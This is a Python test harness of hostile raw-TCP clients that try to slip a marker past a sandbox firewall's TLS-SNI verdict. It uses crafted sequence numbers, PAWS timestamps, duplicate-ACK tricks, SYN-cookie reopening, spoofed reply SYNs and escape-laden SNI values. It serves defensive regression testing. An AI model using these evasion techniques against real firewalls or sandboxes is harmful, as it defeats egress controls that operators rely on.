#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile clients that try to get a marker past sbxfw's verdict, each the
way a review found (issue "No byte past the verdict"). They send raw
packets (the sandbox's kernel must not answer for their ports: the caller
drops its outgoing resets for 40000-60000) or drive a real kernel socket.
What matters is what the server side received, which the caller checks
with a capture; this prints what the client saw.

usage: evasion.py ATTACK MARKER SRC DST [PORT]
attacks:
  syn-late     handshake, then a SYN carrying an allowed ClientHello at
               ISN+101, then the marker as plain text at ISN+1
  reconnect    allowed ClientHello, reset, the same ports again with a
               ClientHello whose SNI is the marker (RECONNECT_ISN=same:
               the same ISN too)
  pg-hold      1 byte of an SSLRequest, 1400 marker bytes at offset 1000,
               then the SSLRequest's other 7 bytes
  flags        no handshake: SYN|FIN, then FIN|PSH|ACK, with the marker
  paws         an allowed ClientHello with a timestamp older than the
               SYN's (the server drops it), then the marker at ISN+1
  tos-ack      paws, with TOS 0x10 (priority 6) and a byte from before
               the hello, whose duplicate ACK acknowledges 0x06000000
  reuse-ack    an allowed hello, a reset, the same ports again with an
               ISN whose duplicate ACK (as in tos-ack) acknowledges what
               the first hello's did, and a hello the server drops
  syn-open     half an allowed hello (held), then a bare SYN of another
               ISN on the same ports
  new-entry    paws, the client's reset, a new connection on the same
               ports whose stream starts where the hello ended, a byte
               from before the first (its duplicate ACK acknowledges the
               judged bytes), then the marker
  new-entry-held  the same while the hello's start is held: its rest
               sent on the new entry from one byte before its stream
  udp          one datagram: the marker
  hostile      a ClientHello whose SNI holds terminal escapes and bytes
               that are not UTF-8, around the marker
  syn-storm N  handshake, then N bare SYNs on the open connection (each
               on an entry with a verdict: a connection begun again)
  split N R    a kernel socket sends a ClientHello for the SNI MARKER in
               N-byte segments, in TLS records of R handshake bytes (R 0:
               as made); prints the outcome and the milliseconds to it
"""
import os
import random
import socket
import ssl
import struct
import sys
import time

SYN, FIN, RST, PSH, ACK = 0x02, 0x01, 0x04, 0x08, 0x10
ALLOWED = os.environ.get("ALLOWED", "allowed.test")


def client_hello(sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def rerecord(hello, size):
    """The same handshake message in TLS records of `size' bytes."""
    body = b""
    off = 0
    while off + 5 <= len(hello):
        n = struct.unpack("!H", hello[off + 3:off + 5])[0]
        body += hello[off + 5:off + 5 + n]
        off += 5 + n
    out = b""
    for i in range(0, len(body), size):
        part = body[i:i + size]
        out += b"\x16\x03\x01" + struct.pack("!H", len(part)) + part
    return out


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Raw:
    """A TCP endpoint of our own over a raw socket (IPv4 or IPv6)."""

    def __init__(self, src, dst, dport, sport=None):
        self.v6 = ":" in dst
        self.fam = socket.AF_INET6 if self.v6 else socket.AF_INET
        self.src, self.dst, self.dport = src, dst, dport
        self.sport = sport or random.randint(40000, 60000)
        self.s = socket.socket(self.fam, socket.SOCK_RAW, socket.IPPROTO_TCP)
        # not 64: the caller drops the kernel's resets (TTL 64) only
        if self.v6:
            self.s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 65)
        else:
            self.s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 65)
        self.isn = random.getrandbits(32)
        self.ack = 0

    def send(self, seq, flags, data=b"", ack=None, ts=None):
        opts = b""
        if ts is not None:
            opts = b"\x01\x01\x08\x0a" + struct.pack("!II", ts, 0)
        off = (20 + len(opts)) // 4
        hdr = struct.pack("!HHIIBBHHH", self.sport, self.dport,
                          seq & 0xFFFFFFFF, self.ack if ack is None else ack,
                          off << 4, flags | (ACK if self.ack else 0), 65535,
                          0, 0) + opts
        a = socket.inet_pton(self.fam, self.src)
        b = socket.inet_pton(self.fam, self.dst)
        if self.v6:
            pseudo = a + b + struct.pack("!IxxxB", len(hdr) + len(data), 6)
        else:
            pseudo = a + b + struct.pack("!BBH", 0, 6, len(hdr) + len(data))
        c = checksum(pseudo + hdr + data)
        pkt = hdr[:16] + struct.pack("!H", c) + hdr[18:] + data
        self.s.sendto(pkt, (self.dst, 0))

    def receive(self, timeout):
        """The next packet of ours: (flags, seq, ack, payload) or None."""
        deadline = time.time() + timeout
        while time.time() < deadline:
            self.s.settimeout(max(0.01, deadline - time.time()))
            try:
                pkt = self.s.recv(65535)
            except socket.timeout:
                return None
            ihl = 0 if self.v6 else (pkt[0] & 0x0F) * 4
            sp, dp, seq, ack, off, flags = struct.unpack(
                "!HHIIBB", pkt[ihl:ihl + 14])
            if dp != self.sport or sp != self.dport:
                continue
            return flags, seq, ack, pkt[ihl + (off >> 4) * 4:]
        return None

    def connect(self, ts=None):
        for _ in range(3):
            self.ack = 0
            self.send(self.isn, SYN, ts=ts)
            got = self.receive(3)
            if got and got[0] & SYN:
                break
            if not got or not got[0] & ACK:
                return False
            # a challenge ACK (RFC 5961): the server still holds an
            # earlier connection on these ports; a TCP stack resets it at
            # the sequence number the ACK names (the sandbox's kernel
            # would, but its resets are dropped here), then tries again
            self.send(got[2], RST, ack=0)
            time.sleep(0.05)
        else:
            return False
        self.ack = (got[1] + 1) & 0xFFFFFFFF
        self.send(self.isn + 1, 0, ts=None if ts is None else ts + 1)
        return True

    def outcome(self, timeout=4):
        """reset, serverhello, answered or timeout."""
        deadline = time.time() + timeout
        while True:
            got = self.receive(deadline - time.time())
            if not got:
                return "timeout"
            if got[0] & RST:
                return "reset"
            if got[3][:1] == b"\x16":
                return "serverhello"
            if got[3]:
                return "answered"


def marker_http(marker):
    return b"GET /" + marker + b" HTTP/1.1\r\nHost: x\r\n\r\n"


def syn_late(r, marker):
    if not r.connect():
        return "no-synack"
    time.sleep(0.05)
    r.send(r.isn + 101, SYN, client_hello(ALLOWED))
    time.sleep(0.1)
    r.send(r.isn + 1, PSH, marker_http(marker))
    return r.outcome(2)


def reconnect(r, marker):
    if not r.connect():
        return "no-synack"
    hello = client_hello(ALLOWED)
    r.send(r.isn + 1, PSH, hello)
    first = r.outcome(3)
    r.send(r.isn + 1 + len(hello), RST)
    time.sleep(0.1)
    if os.environ.get("RECONNECT_ISN") != "same":
        r.isn = random.getrandbits(32)
    if not r.connect():
        return first + " no-synack"
    r.send(r.isn + 1, PSH, client_hello(marker.decode() + ".test"))
    return first + " " + r.outcome(3)


def pg_hold(r, marker):
    req = struct.pack("!II", 8, 80877103)
    if not r.connect():
        return "no-synack"
    r.send(r.isn + 1, PSH, req[:1])
    r.send(r.isn + 1 + 1000, PSH, (marker * 1400)[:1400])
    time.sleep(0.05)
    r.send(r.isn + 2, PSH, req[1:])
    what = r.outcome(4)
    time.sleep(3)   # the hold's bound: the ClientHello never comes
    return what


def flags(r, marker):
    r.send(r.isn, SYN | FIN, marker_http(marker))
    r.send(r.isn + 1, FIN | PSH | ACK, marker_http(marker), ack=12345)
    return r.outcome(1)


def paws(r, marker):
    if not r.connect(ts=1000000):
        return "no-synack"
    r.send(r.isn + 1, PSH, client_hello(ALLOWED), ts=1)
    time.sleep(0.2)
    hello = client_hello(ALLOWED)
    r.send(r.isn + 1, PSH, (marker_http(marker) * 40)[:len(hello)],
           ts=1000002)
    return r.outcome(2)


def dup_acked(r, marker, ts):
    """An allowed hello the server drops (paws), a byte from before it
    (the server's duplicate ACK acknowledges ISN+1), then the marker
    where the hello was."""
    hello = client_hello(ALLOWED)
    r.send(r.isn + 1, PSH, hello, ts=1)
    time.sleep(0.2)
    r.send(r.isn, PSH, b"x", ts=ts)
    time.sleep(0.2)
    r.send(r.isn + 1, PSH, (marker_http(marker) * 40)[:len(hello)],
           ts=ts + 1)
    return r.outcome(2)


def tos_ack(r, marker):
    """paws with TOS 0x10 (IPv4 forwarding gives the packet priority 6,
    which a register holding skb->priority reads as 0x06000000), the
    first sequence number picked so that the server's duplicate ACK of a
    byte from before the hello acknowledges just that: only the server's
    acknowledgement of the judged bytes may commit a flow."""
    r.isn = 0x05FFFFFF
    r.s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0x10)
    if not r.connect(ts=1000000):
        return "no-synack"
    return dup_acked(r, marker, 1000002)


def reuse_ack(r, marker):
    """An allowed hello the server takes, a reset, then the same ports
    again (the same conntrack entry, begun again) with a first sequence
    number picked so that the server's duplicate ACK, as in tos-ack,
    acknowledges just what the first hello's did; its own hello is
    dropped by the server (paws)."""
    if not r.connect(ts=1000000):
        return "no-synack"
    hello = client_hello(ALLOWED)
    r.send(r.isn + 1, PSH, hello, ts=1000001)
    first = r.outcome(3)
    awaited = (r.isn + 1 + len(hello)) & 0xFFFFFFFF
    r.send(awaited, RST, ts=1000002)
    time.sleep(0.1)
    r.isn = (awaited - 1) & 0xFFFFFFFF
    if not r.connect(ts=2000000):
        return first + " no-synack"
    return first + " " + dup_acked(r, marker, 2000002)


def syn_open(r, marker):
    """Half an allowed hello (held: the flow undecided), then a bare SYN
    of another first sequence number on the same ports: let through, it
    would open the server a second connection there (once the first is
    gone on its side), whose acknowledgements the sandbox picks. Prints
    what came back to the SYN."""
    if not r.connect():
        return "no-synack"
    r.send(r.isn + 1, PSH, client_hello(ALLOWED)[:100])
    time.sleep(0.2)
    r.isn, r.ack = random.getrandbits(32), 0
    r.send(r.isn, SYN)
    got = r.receive(1)
    return "nothing" if not got else "flags 0x%02x" % got[0]


def new_entry(r, marker):
    """paws (the flow judged, its hello never taken), the client's reset
    (the entry ends on it; the next SYN begins a new one), a new
    connection whose stream starts where the hello ended, a byte from
    before the old one's start (the server's duplicate ACK acknowledges
    the judged bytes' end), then the marker."""
    if not r.connect(ts=1000000):
        return "no-synack"
    hello = client_hello(ALLOWED)
    r.send(r.isn + 1, PSH, hello, ts=1)
    time.sleep(0.2)
    r.send(r.isn + 1, RST, ts=1000002)
    time.sleep(0.1)
    first = r.isn
    r.isn = (first + len(hello)) & 0xFFFFFFFF
    if not r.connect(ts=2000000):
        return "no-synack again"
    r.send(first, PSH, b"x", ts=2000002)
    time.sleep(0.2)
    r.send(r.isn + 1, PSH, marker_http(marker), ts=2000003)
    return r.outcome(2)


def new_entry_held(r, marker):
    """The start of an allowed hello (held: no name yet), the client's
    reset, a SYN whose stream starts where that start ended (conntrack
    begins a new entry), then the hello's rest from one byte before the
    new stream (so not its first segment): were it joined to the held
    start, the new connection's server would take only the rest and
    acknowledge the whole hello's end; then the marker."""
    if not r.connect():
        return "no-synack"
    # bytes 20-24 (in the hello's random) as a record header of 16 KiB:
    # the server, which takes the hello from byte 20, waits for the rest
    hello = bytearray(client_hello(ALLOWED))
    hello[20:25] = b"\x16\x03\x01\x40\x00"
    hello = bytes(hello)
    r.send(r.isn + 1, PSH, hello[:20])
    time.sleep(0.2)
    r.send(r.isn + 21, RST)
    time.sleep(0.1)
    first = r.isn
    r.isn = (first + 20) & 0xFFFFFFFF
    if not r.connect():
        return "no-synack again"
    r.send(r.isn, PSH, hello[19:])
    time.sleep(0.3)
    r.send(first + 1 + len(hello), PSH, marker_http(marker))
    return r.outcome(2)


def hostile(r, marker):
    name = b"x" * 20 + b".test"
    hello = client_hello(name.decode())
    evil = (b"\x1b[2J\xff\xfe" + marker + b"\x1b]0;" + name)[:len(name)]
    if not r.connect():
        return "no-synack"
    r.send(r.isn + 1, PSH, hello.replace(name, evil))
    return r.outcome(2)


def udp(args, marker):
    fam = socket.AF_INET6 if ":" in args.dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((args.dst, args.port))
    s.send(marker)
    try:
        s.recv(2048)
        return "answered"
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return "refused %d" % e.errno


def wait_ack(r, upto, timeout=2):
    """Until the server acknowledges `upto' (or resets it)."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        got = r.receive(deadline - time.time())
        if not got:
            break
        if got[0] & RST:
            return "reset"
        if (got[2] - upto) & 0x80000000 == 0:
            return "acked"
    return "timeout"


def cookie_reopen(r, marker):
    """An allowed connection whose server answered with a SYN cookie
    ends (END=fin: the client's close, first; else its reset; PAD=N bare
    ACKs before); then, with no SYN, an ACK carrying the marker at its
    first sequence number, acknowledging the old cookie: a server in
    SYN-cookie mode takes it for a new connection."""
    if not r.connect():
        return "no-synack"
    cookie = (r.ack - 1) & 0xFFFFFFFF
    hello = client_hello(ALLOWED)
    r.send(r.isn + 1, PSH, hello)
    end = r.isn + 1 + len(hello)
    out = "first:" + wait_ack(r, end & 0xFFFFFFFF)
    # PAD=N: N bare ACKs more, the entry past the packets that the
    # fast path of a long flow waits out
    for _ in range(int(os.environ.get("PAD", "0"))):
        r.send(end, 0)
    time.sleep(0.1)
    if os.environ.get("END") == "fin":
        r.send(end, FIN)
        deadline = time.time() + 3
        while time.time() < deadline:
            got = r.receive(deadline - time.time())
            if got and got[0] & FIN:
                r.ack = (got[1] + len(got[3]) + 1) & 0xFFFFFFFF
                r.send(end + 1, 0)
                out += " closed"
                break
    else:
        r.send(end, RST, ack=0)
    time.sleep(0.2)
    r.ack = (cookie + 1) & 0xFFFFFFFF
    data = marker_http(marker)
    r.send(r.isn + 1, PSH, data)
    return out + " second:" + wait_ack(r, (r.isn + 1 + len(data)) & 0xFFFFFFFF)


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def spoofed_reply(r, marker):
    """A SYN in the server's name (from DST:PORT to our own address),
    sent to the router (GWMAC in the environment), which hands it back:
    conntrack's entry would then begin at the server, and our own SYN,
    ACK and data would travel as that entry's "reply"."""
    a = socket.inet_pton(r.fam, r.dst)
    b = socket.inet_pton(r.fam, r.src)
    tcp = struct.pack("!HHIIBBHHH", r.dport, r.sport,
                      random.getrandbits(32), 0, 5 << 4, SYN, 65535, 0, 0)
    if r.fam == socket.AF_INET6:
        pseudo = a + b + struct.pack("!IxxxB", len(tcp), 6)
    else:
        pseudo = a + b + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    own = open("/sys/class/net/eth0/address").read().strip()
    if r.fam == socket.AF_INET6:
        ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + a + b
        eth = mac(os.environ["GWMAC"]) + mac(own) + b"\x86\xdd"
    else:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64,
                         6, 0, a, b)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        eth = mac(os.environ["GWMAC"]) + mac(own) + b"\x08\x00"
    p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    p.bind(("eth0", 0))
    p.send(eth + ip + tcp)
    time.sleep(0.1)
    if not r.connect():
        return "no-synack"
    r.send(r.isn + 1, PSH, marker_http(marker))
    return r.outcome(2)


def syn_storm(r, n):
    if not r.connect():
        return "no-synack"
    r.ack = 0   # a bare SYN, as a new connection's
    for _ in range(n):
        r.send(r.isn, SYN)
        time.sleep(0.005)
    return "sent %d" % n


def split(args, seg, rec):
    hello = client_hello(args.marker)
    if rec:
        hello = rerecord(hello, rec)
    fam = socket.AF_INET6 if ":" in args.dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    # a client's patience, shorter than the hold's bound (3 s): a hello
    # decided by the clock is a timeout to it
    s.settimeout(2)
    s.connect((args.dst, args.port))
    t0 = time.time()
    try:
        for i in range(0, len(hello), seg):
            s.send(hello[i:i + seg])
            time.sleep(0.001)
        got = s.recv(5)
        what = "serverhello" if got[:1] == b"\x16" else "closed"
    except ConnectionResetError:
        what = "reset"
    except socket.timeout:
        what = "timeout"
    return "%s %d" % (what, (time.time() - t0) * 1000)


class Args:
    pass


def main():
    a = Args()
    a.attack, a.marker, a.src, a.dst = sys.argv[1:5]
    rest = sys.argv[5:]
    a.port = int(rest.pop(0)) if rest and a.attack != "split" else 443
    marker = a.marker.encode()
    if a.attack == "udp":
        print(udp(a, marker))
        return
    if a.attack == "syn-storm":
        r = Raw(a.src, a.dst, a.port)
        print(syn_storm(r, int(rest[0])))
        return
    if a.attack == "split":
        if len(rest) > 2:
            a.port = int(rest[2])
        print(split(a, int(rest[0]), int(rest[1])))
        return
    r = Raw(a.src, a.dst, a.port, int(os.environ.get("SPORT") or 0) or None)
    attack = {"syn-late": syn_late, "reconnect": reconnect,
              "pg-hold": pg_hold, "flags": flags, "paws": paws,
              "tos-ack": tos_ack, "reuse-ack": reuse_ack,
              "syn-open": syn_open, "new-entry": new_entry,
              "new-entry-held": new_entry_held,
              "hostile": hostile, "spoofed-reply": spoofed_reply,
              "cookie-reopen": cookie_reopen}[a.attack]
    print(attack(r, marker))


if __name__ == "__main__":
    main()
